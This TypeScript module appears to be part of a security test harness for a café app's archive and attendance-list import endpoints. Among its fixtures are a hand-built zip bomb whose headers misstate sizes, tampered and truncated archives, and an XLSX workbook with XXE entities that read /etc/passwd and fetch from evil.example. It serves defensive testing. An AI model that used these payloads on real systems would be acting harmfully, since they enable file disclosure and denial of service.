import { deflateRawSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { NotHere, type Ops, type Play } from './observed.ts'
import { newId, openStage, ready, type Stage } from './stage.ts'
import type { Reply } from './server.ts'

type Archive = Record<string, unknown> & { cafeId: string; events: { event: Record<string, unknown> }[] }

const take = async (stage: Stage, body: string | Buffer): Promise<Reply> => {
  const reply = await stage.server.ask('/api/cafes/import', { body, key: stage.server.organiserKey, from: stage.from })
  if (reply.status === 404 || reply.status === 405) throw new NotHere('no import of archives')
  return reply
}

/** An archive of a café that this server does not have: the one that was given out, under another name. */
const goodArchive = async (stage: Stage): Promise<Archive> => {
  await stage.post(stage.ann, 'une note dans l’archive')
  const reply = await stage.server.ask(`/api/cafes/${stage.links.cafeId}/archive`, { key: stage.links.organiser, from: stage.from })
  if (reply.status !== 200) throw new NotHere('no archive')
  return { ...(reply.body as unknown as Archive), cafeId: `c${newId().replace(/\D/g, '').padEnd(18, '0').slice(0, 18)}` }
}

/** A zip file by hand, so that it can say of itself what is not true. */
const zipOf = (entries: readonly { name: string; packed: Buffer; says: number }[]): Buffer => {
  const parts: Buffer[] = [], contents: Buffer[] = []
  let offset = 0
  for (const { name, packed, says } of entries) {
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(says, 22)
    local.writeUInt16LE(Buffer.byteLength(name), 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(8, 10)
    central.writeUInt32LE(packed.length, 20)
    central.writeUInt32LE(says, 24)
    central.writeUInt16LE(Buffer.byteLength(name), 28)
    central.writeUInt32LE(offset, 42)
    const file = Buffer.concat([local, Buffer.from(name), packed])
    parts.push(file)
    contents.push(Buffer.concat([central, Buffer.from(name)]))
    offset += file.length
  }
  const table = Buffer.concat(contents)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(table.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts, table, end])
}

const archive: Play = async (stage, { input }) => {
  const bomb = input['$zip_bomb'] as { compressed_kb: number; uncompressed_gb: number } | undefined
  if (bomb) return { reply: await take(stage, zipOf([{ name: 'archive.json', packed: deflateRawSync(Buffer.alloc(bomb.compressed_kb * 1_000_000)), says: bomb.uncompressed_gb * 1_000_000_000 }])) }
  const names = input['$zip_entries'] as string[] | undefined
  if (names) return { reply: await take(stage, zipOf(names.map((name) => ({ name, packed: deflateRawSync(Buffer.from('x')), says: 1 })))) }
  if (typeof input['$raw'] === 'string') return { reply: await take(stage, input['$raw']) }
  const said = typeof input['$json'] === 'string' ? input['$json'] : typeof input['$file'] === 'string' ? input['$file'] : ''
  const hostile = /<[^>]+>/.exec(said)?.[0]
  const source = hostile === undefined ? stage : await openStage(stage.server, { title: hostile })
  const good = await goodArchive(source)
  if (source !== stage) source.end()
  const version = /schemaVersion (\d+)/.exec(said)?.[1]
  const text = JSON.stringify(version === undefined ? good : { ...good, schemaVersion: Number(version) })
  const body = /altered/.test(said) ? text.replaceAll('une note dans l’archive', 'une note dans l’archivE') : /truncated|cut/.test(said) ? text.slice(0, text.length / 2) : /missing|removed|reordered|gap/.test(said) ? JSON.stringify({ ...good, events: good.events.filter((_, index) => index !== 2) }) : /unknown (event|type)/.test(said) ? text.replace('"ArrivalOpened"', '"AdminOpened"') : text
  const headBefore = await ready(stage)
  const reply = await take(stage, body)
  return { reply, ...(reply.status === 201 ? { may: 'tell' as const } : {}), facts: { headBefore } }
}

const encoded = (described: string): Buffer => {
  const rows = 'nom;organisation\r\nRené Été;Café des Élus\r\n'
  if (/1252|latin/i.test(described)) return Buffer.from(rows, 'latin1')
  if (/utf-?16/i.test(described)) return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rows, 'utf16le')])
  const lines = Number(/(\d[\d ,.]*) (lines|rows)/.exec(described)?.[1]?.replace(/\D/g, '') ?? 0)
  if (lines > 0) return Buffer.from(`nom;organisation\r\n${Array.from({ length: lines }, (_, index) => `Personne ${index};Réseau ${index % 7}`).join('\r\n')}`)
  return Buffer.from(/BOM/.test(described) && !/no BOM/.test(described) ? `\uFEFF${rows}` : rows)
}

/** A workbook that would have something fetched, from this machine or from elsewhere. */
const xxe = (): Buffer => Buffer.from(zipSync({
  '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'),
  'xl/workbook.xml': strToU8('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="a" sheetId="1"/></sheets></workbook>'),
  'xl/worksheets/sheet1.xml': strToU8('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/x">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'),
  'xl/externalLinks/externalLink1.xml': strToU8('<externalLink/>'),
}))

const roster: Play = async (stage, { input }) => {
  const file = typeof input['$xlsx'] === 'string' ? xxe() : encoded(typeof input['$csv'] === 'string' ? input['$csv'] : '')
  const reply = await stage.server.ask(`/api/cafes/${stage.links.cafeId}/attendance/read`, { body: file, headers: { 'content-type': 'application/octet-stream' }, key: stage.links.organiser, from: stage.from })
  if (reply.status === 405) throw new NotHere('no import of lists')
  const rows = (reply.body as unknown as { rows?: string[][] }).rows ?? []
  return { reply, facts: { text: JSON.stringify(rows).includes('René Été') && JSON.stringify(rows).includes('Élus') ? 'é kept' : 'lost', rows: rows.length } }
}

export const importOps: Ops = [[/^import archive/, archive], [/^import/, roster]]
